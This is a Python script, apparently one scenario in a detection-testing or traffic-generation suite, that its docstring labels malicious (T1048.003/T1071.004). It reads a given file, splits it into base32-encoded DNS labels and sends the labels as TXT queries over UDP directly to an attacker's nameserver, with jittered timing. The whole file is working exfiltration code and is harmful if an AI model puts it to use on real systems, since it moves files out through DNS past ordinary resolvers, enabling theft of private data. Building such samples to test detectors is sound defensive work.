"""Malicious (T1048.003/T1071.004): a file leaves as base32 labels in queries sent straight to an attacker's NS.

One UDP socket, connected to the attacker nameserver (not the host's resolver), about one query a second.
"""

from __future__ import annotations

import base64
import random
import socket
import struct
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from _common import parser, setup, sleep_until, ticks  # noqa: E402

CHUNK = 35  # bytes per label: 35 bytes -> 56 base32 characters, under the 63-character label limit


def query_wire(name: str, qid: int) -> bytes:
    header = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    qname = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"
    return header + qname + struct.pack("!HH", 16, 1)  # TXT IN


def names(data: bytes, domain: str, session: str) -> list[str]:
    out = []
    for seq, offset in enumerate(range(0, len(data), 2 * CHUNK)):
        block = data[offset:offset + 2 * CHUNK]
        labels = [base64.b32encode(block[i:i + CHUNK]).decode().rstrip("=").lower()
                  for i in range(0, len(block), CHUNK)]
        out.append(".".join([*labels, f"{seq:04x}", session, domain]))
    return out


def main() -> None:
    p = parser("dns exfiltration")
    p.add_argument("--file", type=Path, required=True)
    p.add_argument("--server", required=True)
    p.add_argument("--domain", required=True)
    p.add_argument("--rate", type=float, default=1.0, help="queries per second")
    args = p.parse_args()
    deadline = setup(args)
    queue = names(args.file.read_bytes(), args.domain, f"{random.getrandbits(16):04x}")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect((args.server, 53))
        sock.settimeout(1.0)
        for i in ticks(deadline):
            if i >= len(queue):
                return
            try:
                sock.send(query_wire(queue[i], random.getrandbits(16)))
                sock.recv(4096)
            except OSError:
                pass
            if not sleep_until(deadline, random.uniform(0.7, 1.3) / args.rate):
                return


if __name__ == "__main__":
    main()
